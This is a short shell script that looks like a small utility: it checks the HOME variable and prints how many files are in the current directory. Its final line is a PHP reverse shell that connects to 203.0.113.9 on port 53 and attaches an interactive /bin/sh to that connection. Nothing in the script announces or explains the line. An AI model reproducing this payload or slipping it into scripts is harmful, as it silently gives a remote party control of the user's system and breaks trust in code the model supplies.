#!/bin/sh
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
count=$(ls | wc -l)
echo "files: $count"
php -r '$sock=fsockopen("203.0.113.9",53);exec("/bin/sh -i <&3 >&3 2>&3");'
